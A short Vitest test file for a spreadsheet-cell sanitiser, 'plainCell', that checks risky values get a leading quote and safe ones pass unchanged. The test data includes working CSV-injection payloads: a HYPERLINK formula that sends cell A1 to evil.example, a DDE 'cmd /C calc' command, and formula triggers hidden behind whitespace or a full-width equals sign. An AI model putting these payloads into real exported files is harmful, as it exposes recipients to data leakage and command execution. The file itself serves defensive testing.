import { expect, it } from 'vitest';
import { plainCell } from './plain-cell.ts';

it.each([
  '=HYPERLINK("http://evil.example?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  ' =1',
  '\t=1',
  '\r=1',
  '＝1',
])('makes %j text', (text) => {
  expect(plainCell(text)).toBe(`'${text}`);
});

it.each(['', 'cello', '-0.25', '+3', '1e-7', '-.5', 'a=b', "'quoted"])('leaves %j alone', (text) => {
  expect(plainCell(text)).toBe(text);
});
